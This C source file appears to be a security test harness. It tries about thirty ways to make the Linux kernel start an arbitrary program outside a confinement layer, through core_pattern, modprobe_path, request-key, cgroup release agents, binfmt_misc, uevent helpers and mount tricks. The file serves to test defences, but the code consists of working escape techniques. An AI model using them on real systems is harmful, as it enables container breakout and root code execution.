/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Attacks by programs that the kernel starts by itself (kernel/umh.c): their parent is a kernel
 * thread, so that they are unconfined in the root policy namespace unless a profile of it catches
 * them. Whoever says what is started, or what lies there, runs code outside of the layer.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "guest.h"

#define CORE_PATTERN "/proc/sys/kernel/core_pattern"
#define MODPROBE_PATH "/proc/sys/kernel/modprobe"
#define MODPROBE "/sbin/modprobe"
#define REQUEST_KEY "/sbin/request-key"
#define CPUSET_AGENT "/sbin/cpuset_release_agent"
#define TOMOYO_LOADER "/sbin/tomoyo-init"
#define TOMOYO_TRIGGER "/sbin/init"
#define TOMOYO "/sys/kernel/security/tomoyo/"
#define BINFMT_FOLDER "/proc/sys/fs/binfmt_misc"
#define BSET "/proc/sys/kernel/usermodehelper/bset"

static int program = -1;

/* So the program knows by its own name what it is, whatever it is started as. */
static const char script[] = "#!" ESCAPEE "\n";

int copy_program(const char *path, int to)
{
	int from = open(path, O_RDONLY | O_CLOEXEC);
	struct stat st;
	int err = 0;

	if (from < 0)
		return errno;
	if (fstat(from, &st) < 0 || sendfile(to, from, NULL, (size_t)st.st_size) != st.st_size ||
	    fchmod(to, 0755) < 0)
		err = errno;
	(void)close(from);
	return err;
}

int copy_program_to(const char *path, const char *to)
{
	int fd = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	int err = fd < 0 ? errno : copy_program(path, fd);

	if (fd >= 0)
		(void)close(fd);
	return err;
}

static const char *prepare_memfd(void)
{
	int err;

	program = memfd_create("helper", 0);
	err = program < 0 ? errno : copy_program(ESCAPEE, program);
	return err ? missing("a memfd", err) : NULL;
}

int make_program_without_path(void)
{
	program = memfd_create("helper", 0);
	if (program < 0 || write(program, script, sizeof(script) - 1) < 0 ||
	    fchmod(program, 0755) < 0)
		return errno;
	return 0;
}

static const char *prepare_memfd_script(void)
{
	int err = make_program_without_path();

	return err ? missing("a memfd", err) : NULL;
}

/* The program is named by a path, and has none: no attachment knows it. */
const char *program_without_path(void)
{
	static char path[60];

	(void)snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)getpid(), program);
	return path;
}

/* Open to read only: a file that somebody may write is no program. */
static const char *prepare_deleted(void)
{
	int err = copy_program_to(ESCAPEE, "helper");

	if (!err) {
		program = open("helper", O_RDONLY);
		err = program < 0 || unlink("helper") < 0 ? errno : 0;
	}
	return err ? missing("a deleted file", err) : NULL;
}

static int write_script(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	int err = 0;

	if (fd < 0)
		return errno;
	if (write(fd, script, sizeof(script) - 1) < 0)
		err = errno;
	(void)close(fd);
	return err;
}

/* Dies of a signal that leaves a core dump, and waits until the kernel has done with it. */
int dump_core(void)
{
	const struct rlimit all = { RLIM_INFINITY, RLIM_INFINITY };
	int status = 0;
	pid_t pid = fork();

	if (pid == 0) {
		(void)prctl(PR_SET_DUMPABLE, 1);
		(void)setrlimit(RLIMIT_CORE, &all);
		(void)signal(SIGABRT, SIG_DFL);
		abort();
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid)
		return errno;
	return WCOREDUMP(status) ? 0 : ENOEXEC;
}

/* The pattern goes back, so that what comes of the dump is judged, and not the pattern. */
static int dump_core_by(const char *pattern)
{
	char was[200] = "core";
	int err;

	(void)read_small(CORE_PATTERN, was, sizeof(was));
	err = write_small(CORE_PATTERN, pattern);
	if (err)
		return err;
	err = dump_core();
	(void)write_small(CORE_PATTERN, was);
	return err;
}

static int run_core_pattern(void)
{
	return dump_core_by("|" ESCAPEE);
}

static int run_core_descriptor(void)
{
	char pattern[100];

	(void)snprintf(pattern, sizeof(pattern), "|%s escapee", program_without_path());
	return dump_core_by(pattern);
}

/* The dump itself is the attack: fs/coredump.c removes what lies there. */
static int run_core_file(void)
{
	return dump_core_by(CANARY);
}

/* A file system that nobody has: the kernel asks for its module, whoever the caller is. */
int ask_for_module(const char *type)
{
	if (mount("none", "/", type, 0, NULL) == 0)
		return EINVAL;
	return errno == ENODEV ? 0 : errno;
}

/* The pattern goes back: the observer's own helper is started by it. */
static int load_module_by(const char *path)
{
	char was[200] = MODPROBE;
	int err;

	(void)read_small(MODPROBE_PATH, was, sizeof(was));
	err = write_small(MODPROBE_PATH, path);
	if (err)
		return err;
	err = ask_for_module("attack-modprobe");
	(void)write_small(MODPROBE_PATH, was);
	return err;
}

static int run_modprobe_path(void)
{
	return load_module_by(ESCAPEE);
}

/* The program's name is that of the link, its path that of the memfd. */
static int run_modprobe_memfd(void)
{
	char folder[200], path[260];

	if (!getcwd(folder, sizeof(folder)) || symlink(program_without_path(), "escapee") < 0)
		return errno;
	(void)snprintf(path, sizeof(path), "%s/escapee", folder);
	return load_module_by(path);
}

/* A bind mount has the name of where it is, and what lies below it has another one by the next. */
static int run_modprobe_bind(void)
{
	char was[200] = MODPROBE;
	int err;

	if (mkdir("above", 0755) < 0 || mkdir("below", 0755) < 0 ||
	    mount("/proc/sys", "above", NULL, MS_BIND, NULL) < 0 ||
	    mount("above/kernel", "below", NULL, MS_BIND, NULL) < 0)
		return errno;
	(void)read_small(MODPROBE_PATH, was, sizeof(was));
	err = write_small("below/modprobe", ESCAPEE);
	if (err)
		return err;
	err = ask_for_module("attack-modprobe-bind");
	(void)write_small("below/modprobe", was);
	return err;
}

/* Not the path of the program is changed but the program. */
static int run_modprobe_file(void)
{
	int err;

	if (rename(MODPROBE, MODPROBE ".kept") < 0)
		return errno;
	err = write_script(MODPROBE);
	if (!err)
		err = ask_for_module("attack-modprobe-file");
	(void)rename(MODPROBE ".kept", MODPROBE);
	return err;
}

/* The file of a package may be replaced, by a link as well. */
static int run_modprobe_link(void)
{
	int err = 0;

	if (rename(MODPROBE, MODPROBE ".kept") < 0)
		return errno;
	if (symlink(program_without_path(), MODPROBE) < 0)
		err = errno;
	if (!err)
		err = ask_for_module("attack-modprobe-link");
	(void)rename(MODPROBE ".kept", MODPROBE);
	return err;
}

/* The folder of the program will be hidden, and with it what its interpreter links to. */
static const char *prepare_hidden_folder(void)
{
	char line[240], folder[200];

	if (!getcwd(folder, sizeof(folder)) || link(ESCAPEE_PROGRAM, "escapee") < 0 ||
	    mkdir("alias", 0755) < 0)
		return missing("a link to the program", errno);
	(void)snprintf(line, sizeof(line), "#!%s/escapee\n", folder);
	program = memfd_create("helper", 0);
	if (program < 0 || write(program, line, strlen(line)) < 0 || fchmod(program, 0755) < 0)
		return missing("a memfd", errno);
	return NULL;
}

/* A file system in the place of the folder, and in it the link. */
static int put_over(const char *folder)
{
	char path[60];

	if (mount("none", folder, "tmpfs", 0, NULL) < 0)
		return errno;
	(void)snprintf(path, sizeof(path), "%s/modprobe", folder);
	if (symlink(program_without_path(), path) < 0)
		return errno;
	return ask_for_module("attack-mounted");
}

static int run_modprobe_mounted(void)
{
	int err = put_over("/sbin");

	(void)umount2("/sbin", MNT_DETACH);
	return err;
}

/* Without a mount on /sbin by its name: a bind shares with its source what is mounted in either. */
static int put_over_bind(const char *source, const char *over, int (*put)(const char *over))
{
	int err = 0;

	if (mount(NULL, "/", NULL, MS_SHARED, NULL) < 0 ||
	    mount(source, "alias", NULL, MS_BIND, NULL) < 0)
		err = errno;
	if (!err)
		err = put(over);
	(void)umount2(over, MNT_DETACH); /* the file system, in both places */
	(void)mount(NULL, "/", NULL, MS_PRIVATE, NULL);
	(void)umount2("alias", MNT_DETACH);
	return err;
}

static int run_modprobe_propagated(void)
{
	return put_over_bind("/", "alias/sbin", put_over);
}

/* A bind of the folder has any name one likes. */
static int run_modprobe_propagated_bind(void)
{
	return put_over_bind("/sbin", "alias", put_over);
}

int mount_casefolded(const char *over)
{
	long flags = 0x40000000; /* linux/fs.h: FS_CASEFOLD_FL */
	int fd, err = 0;

	if (mount("none", over, "tmpfs", 0, "casefold=utf8-12.1.0") < 0)
		return errno;
	fd = open(over, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0 || ioctl(fd, _IOW('f', 2, long), &flags) < 0 ||
	    symlinkat(program_without_path(), fd, "Request-Key") < 0)
		err = errno;
	if (fd >= 0)
		(void)close(fd);
	return err;
}

static int put_casefolded(const char *over)
{
	int err = mount_casefolded(over);

	if (err == EINVAL)
		return impossible(EINVAL, NO_CASEFOLD);
	if (!err && syscall(SYS_request_key, "user", "initward:casefold", "x", 0) < 0)
		err = errno;
	return err;
}

static int run_request_key_propagated(void)
{
	return put_over_bind("/", "alias/sbin", put_casefolded);
}

/* As mount(8) does it since util-linux 2.39: AppArmor is told no source. */
static int run_modprobe_over(void)
{
	int fs = (int)syscall(SYS_fsopen, "tmpfs", 0), fd, err;

	if (fs < 0 || syscall(SYS_fsconfig, fs, 6 /* CREATE */, NULL, NULL, 0) < 0)
		return errno;
	fd = (int)syscall(SYS_fsmount, fs, 0, 0);
	if (fd < 0 || symlinkat(program_without_path(), fd, "modprobe") < 0 ||
	    syscall(SYS_move_mount, fd, "", AT_FDCWD, "/sbin", 4 /* EMPTY_PATH */) < 0)
		return errno;
	err = ask_for_module("attack-modprobe-over");
	(void)umount2("/sbin", MNT_DETACH);
	return err;
}

static int run_request_key(void)
{
	int err = write_script(REQUEST_KEY);

	if (err)
		return err;
	if (syscall(SYS_request_key, "user", "initward:attack", "x", 0) < 0)
		err = errno;
	(void)unlink(REQUEST_KEY);
	return err == ENOSYS ? impossible(err, "CONFIG_KEYS is not set") : err;
}

/* A file's second name asks for "l", not for "w", and a symbolic link may have a second name. */
static int run_request_key_link(void)
{
	int err = 0;

	if (symlink(program_without_path(), REQUEST_KEY ".link") < 0)
		return errno;
	if (link(REQUEST_KEY ".link", REQUEST_KEY) < 0)
		err = errno;
	if (!err && syscall(SYS_request_key, "user", "initward:link", "x", 0) < 0)
		err = errno;
	(void)unlink(REQUEST_KEY);
	(void)unlink(REQUEST_KEY ".link");
	return err == ENOSYS ? impossible(err, "CONFIG_KEYS is not set") : err;
}

/*
 * security/tomoyo/load_policy.c: the first execution of "/sbin/init" that finds this program starts it, once in
 * a boot, and panics afterwards where no profile is there.
 */
static int run_tomoyo(void)
{
	static const char profile[] = "PROFILE_VERSION=20150505\n0-COMMENT=none\n";
	bool own = false;
	int err;
	pid_t pid;

	if (access(TOMOYO "profile", F_OK) < 0)
		return impossible(errno, "TOMOYO is off, or not built in");
	err = write_small(TOMOYO "profile", profile);
	if (!err && symlink(program_without_path(), TOMOYO_LOADER) < 0)
		err = errno;
	if (err)
		return err;
	if (access(TOMOYO_TRIGGER, F_OK) < 0)
		own = write_script(TOMOYO_TRIGGER) == 0;
	pid = fork();
	if (pid == 0) {
		(void)execl(TOMOYO_TRIGGER, TOMOYO_TRIGGER, "--version", NULL);
		_exit(errno);
	}
	(void)waitpid(pid, NULL, 0);
	(void)unlink(TOMOYO_LOADER);
	if (own)
		(void)unlink(TOMOYO_TRIGGER);
	return 0;
}

/* A task in a cgroup that ends; the working directory is a hierarchy of version 1. */
static int release_cgroup(void)
{
	int status = 0, err;
	pid_t pid;

	if (mkdir("released", 0755) < 0)
		return errno;
	err = write_small("released/notify_on_release", "1");
	if (err)
		return err;
	pid = fork();
	if (pid == 0)
		_exit(write_small("released/cgroup.procs", "0"));
	if (pid < 0 || waitpid(pid, &status, 0) != pid)
		return errno;
	return WEXITSTATUS(status);
}

static int mount_cgroup(const char *options)
{
	(void)mkdir("cg", 0755);
	if (mount("none", "cg", "cgroup", 0, options) == 0)
		return chdir("cg") < 0 ? errno : 0;
	return errno == ENODEV ? impossible(ENODEV, "CONFIG_CGROUPS is not set") : errno;
}

static int run_release_agent(void)
{
	int err = mount_cgroup("none,name=attack");

	if (!err)
		err = write_small("release_agent", ESCAPEE);
	return err ? err : release_cgroup();
}

int release_cgroup_to(const char *agent)
{
	char options[200];
	int err;

	(void)snprintf(options, sizeof(options), "none,name=agent,release_agent=%s", agent);
	err = mount_cgroup(options);
	return err ? err : release_cgroup();
}

/*
 * The same hierarchy of old, under a name of its own, with an agent that is built in. The file that arms it is
 * named otherwise by a bind.
 */
static int run_cpuset_agent(void)
{
	char processors[80] = "0";
	int status = 0, err = 0;
	pid_t pid;

	if (mkdir("cs", 0755) < 0 || mknod("armed", S_IFREG | 0600, 0) < 0)
		return errno;
	if (mount("none", "cs", "cpuset", 0, NULL) < 0)
		return errno == ENODEV ? impossible(errno, "CONFIG_CPUSETS_V1 is not set") : errno;
	(void)read_small("cs/cpus", processors, sizeof(processors));
	if (mkdir("cs/released", 0755) < 0 || symlink(program_without_path(), CPUSET_AGENT) < 0)
		return errno;
	if (write_small("cs/released/cpus", processors) || write_small("cs/released/mems", "0") ||
	    mount("cs/released/notify_on_release", "armed", NULL, MS_BIND, NULL) < 0)
		err = errno;
	if (!err)
		err = write_small("armed", "1");
	pid = err ? -1 : fork();
	if (pid == 0)
		_exit(write_small("cs/released/tasks", "0"));
	if (pid > 0 && waitpid(pid, &status, 0) == pid)
		err = WEXITSTATUS(status);
	(void)usleep(200 * 1000); /* the agent is started by a work queue */
	(void)unlink(CPUSET_AGENT);
	return err;
}

/* The same by the mount, without the file. */
static int run_release_agent_option(void)
{
	return release_cgroup_to(ESCAPEE);
}

/* The new interface makes file systems that no rule for mounts knows of, and the agent has no path. */
static int run_release_agent_fsconfig(void)
{
	int context = (int)syscall(SYS_fsopen, "cgroup", 0), hierarchy;

	if (context < 0)
		return errno;
	if (syscall(SYS_fsconfig, context, 0 /* FLAG */, "none", NULL, 0) < 0 ||
	    syscall(SYS_fsconfig, context, 1 /* STRING */, "name", "fsconfig", 0) < 0 ||
	    syscall(SYS_fsconfig, context, 1, "release_agent", program_without_path(), 0) < 0 ||
	    syscall(SYS_fsconfig, context, 6 /* CREATE */, NULL, NULL, 0) < 0)
		return errno;
	hierarchy = (int)syscall(SYS_fsmount, context, 0, 0);
	if (hierarchy < 0 || fchdir(hierarchy) < 0)
		return errno;
	return release_cgroup();
}

static int run_hotplug(void)
{
	int err = write_small("/proc/sys/kernel/hotplug", ESCAPEE);

	return err == ENOENT ? impossible(err, "CONFIG_UEVENT_HELPER is not set") : err;
}

static int run_uevent_helper(void)
{
	int err = write_small("/sys/kernel/uevent_helper", ESCAPEE);

	return err == ENOENT ? impossible(err, "CONFIG_UEVENT_HELPER is not set") : err;
}

/* kernel/umh.c proc_cap_handler(): what is written and what was there, both have to have it. */
static int run_widen(void)
{
	char was[100], now[100];
	int err;

	if (read_small(BSET, was, sizeof(was)) < 0)
		return errno;
	err = write_small(BSET, "4294967295\t4294967295");
	if (err)
		return err;
	if (read_small(BSET, now, sizeof(now)) < 0)
		return errno;
	return strcmp(was, now) ? 0 : impossible(EPERM, "the sets can only shrink");
}

/* The kernel's programs but for this one, which has a bit in a place of the header that nobody looks at. */
#define BINFMT_MAGIC "\\x7fELF\\x00\\x00\\x00\\x00\\x00\\x00"
#define BINFMT_MASK "\\xff\\xff\\xff\\xff\\x00\\x00\\x00\\x00\\x00\\xff"

static const char *prepare_interpreter(void)
{
	const char *why = prepare_memfd();

	if (!why && pwrite(program, "\1", 1, 9 /* e_ident */) != 1)
		why = missing("a program of another kind", errno);
	return why;
}

/* Whatever the kernel starts next is handed to a program that is open already: flag F. */
static int register_format(const char *folder)
{
	char path[60], line[300];
	int err;

	(void)snprintf(path, sizeof(path), "%s/register", folder);
	(void)snprintf(line, sizeof(line), ":attack:M::" BINFMT_MAGIC ":" BINFMT_MASK ":%s:F",
		       program_without_path());
	err = write_small(path, line);
	if (err)
		return err;
	err = ask_for_module("escapee");
	(void)snprintf(path, sizeof(path), "%s/attack", folder);
	(void)write_small(path, "-1");
	return err;
}

static int without_binfmt(int err)
{
	return err == ENODEV ? impossible(err, "CONFIG_BINFMT_MISC=m, and this image has none")
			     : err;
}

static int run_binfmt(void)
{
	(void)mkdir("binfmt", 0755);
	if (mount("binfmt_misc", "binfmt", "binfmt_misc", 0, NULL) < 0)
		return without_binfmt(errno);
	return register_format("binfmt");
}

/* AppArmor is told where it goes, not of what type it is. */
static int run_binfmt_move(void)
{
	int fd = detached_mount("binfmt_misc");

	(void)mkdir("binfmt", 0755);
	if (fd < 0 || attach_mount(fd, "binfmt") < 0)
		return without_binfmt(errno);
	return register_format("binfmt");
}

/* Where it has to be, and a bind of that folder. */
static int run_binfmt_bind(void)
{
	(void)mkdir("binfmt", 0755);
	if (mount("binfmt_misc", BINFMT_FOLDER, "binfmt_misc", 0, NULL) < 0)
		return without_binfmt(errno);
	if (mount(BINFMT_FOLDER, "binfmt", NULL, MS_BIND, NULL) < 0)
		return errno;
	return register_format("binfmt");
}

/* The same, moved. */
static int run_binfmt_mount_move(void)
{
	(void)mkdir("binfmt", 0755);
	if (mount("binfmt_misc", BINFMT_FOLDER, "binfmt_misc", 0, NULL) < 0)
		return without_binfmt(errno);
	if (mount(BINFMT_FOLDER, "binfmt", NULL, MS_MOVE, NULL) < 0)
		return errno;
	return register_format("binfmt");
}

static int make_escapee(void)
{
	return write_script("escapee");
}

/* A program without a name attaches to nothing. */
static const char *prepare_deep_program(void)
{
	return make_deep(make_escapee);
}

static int run_modprobe_deep(void)
{
	int err = 0;

	if (rename(MODPROBE, MODPROBE ".kept") < 0)
		return errno;
	if (symlink("/tmp/modprobe-deep/" DEEP "/escapee", MODPROBE) < 0)
		err = errno;
	if (!err)
		err = ask_for_module("attack-modprobe-deep");
	(void)rename(MODPROBE ".kept", MODPROBE);
	return err;
}

const struct attack helper_attacks[] = {
	{ "core-pattern", "do_coredump() to a program by its path", NULL, run_core_pattern, WAITS },
	{ "core-pattern-memfd", "do_coredump() to /proc/PID/fd of a memfd", prepare_memfd,
	  run_core_descriptor, WAITS },
	{ "core-pattern-deleted", "do_coredump() to /proc/PID/fd of a deleted file",
	  prepare_deleted, run_core_descriptor, WAITS },
	{ "core-file", "do_coredump() to a file", NULL, run_core_file, 0 },
	{ "modprobe-path", "call_modprobe(): the path", NULL, run_modprobe_path, WAITS },
	{ "modprobe-path-memfd", "call_modprobe(): a link to a memfd", prepare_memfd,
	  run_modprobe_memfd, WAITS },
	{ "modprobe-file", "call_modprobe(): the program itself is replaced", NULL,
	  run_modprobe_file, WAITS },
	{ "modprobe-link", "call_modprobe(): a link to a memfd is put in its place",
	  prepare_memfd_script, run_modprobe_link, WAITS },
	{ "modprobe-over", "call_modprobe(): move_mount on its folder", prepare_hidden_folder,
	  run_modprobe_over, WAITS | SHARED_MOUNTS },
	{ "modprobe-bind", "call_modprobe(): the path, by a bind of a bind", NULL,
	  run_modprobe_bind, WAITS },
	{ "modprobe-mounted", "call_modprobe(): a file system is mounted on its folder",
	  prepare_hidden_folder, run_modprobe_mounted, WAITS | SHARED_MOUNTS },
	{ "modprobe-propagated",
	  "call_modprobe(): a file system is mounted on its folder in a bind of the root folder",
	  prepare_hidden_folder, run_modprobe_propagated, WAITS | SHARED_MOUNTS },
	{ "modprobe-propagated-bind",
	  "call_modprobe(): a file system is mounted on a bind of its folder",
	  prepare_hidden_folder, run_modprobe_propagated_bind, WAITS | SHARED_MOUNTS },
	{ "request-key", "call_sbin_request_key()", NULL, run_request_key, WAITS },
	{ "request-key-link", "call_sbin_request_key() of a hard link to a link",
	  prepare_memfd_script, run_request_key_link, WAITS },
	{ "request-key-propagated",
	  "call_sbin_request_key(): a folder that folds letters is mounted on its own in a bind of "
	  "the root folder",
	  prepare_hidden_folder, run_request_key_propagated, WAITS | SHARED_MOUNTS },
	{ "cpuset-agent", "cgroup1_release_agent(), of the file system cpuset",
	  prepare_memfd_script, run_cpuset_agent, WAITS },
	{ "tomoyo-init", "tomoyo_load_policy(), of a memfd", prepare_memfd_script, run_tomoyo,
	  WAITS },
	{ "release-agent", "cgroup1_release_agent(), by the file", NULL, run_release_agent, WAITS },
	{ "release-agent-option", "cgroup1_release_agent(), by an option of the mount", NULL,
	  run_release_agent_option, WAITS },
	{ "release-agent-fsconfig", "cgroup1_release_agent() of a memfd, by fsconfig",
	  prepare_memfd_script, run_release_agent_fsconfig, WAITS },
	{ "hotplug", "kobject_uevent_env(), by the sysctl", NULL, run_hotplug, 0 },
	{ "uevent-helper", "kobject_uevent_env(), by sysfs", NULL, run_uevent_helper, 0 },
	{ "helper-capabilities", "proc_cap_handler()", NULL, run_widen, 0 },
	{ "modprobe-deep", "call_modprobe(): a link to a program whose path is too long",
	  prepare_deep_program, run_modprobe_deep, WAITS },
	{ "binfmt-misc", "load_misc_binary() with an open interpreter", prepare_interpreter,
	  run_binfmt, WAITS },
	{ "binfmt-move", "load_misc_binary(), registered in a new mount that is moved",
	  prepare_interpreter, run_binfmt_move, WAITS },
	{ "binfmt-bind", "load_misc_binary(), registered in a bind of its folder",
	  prepare_interpreter, run_binfmt_bind, WAITS },
	{ "binfmt-mount-move", "load_misc_binary(), registered in its folder, moved",
	  prepare_interpreter, run_binfmt_mount_move, WAITS },
	{ .name = NULL },
};
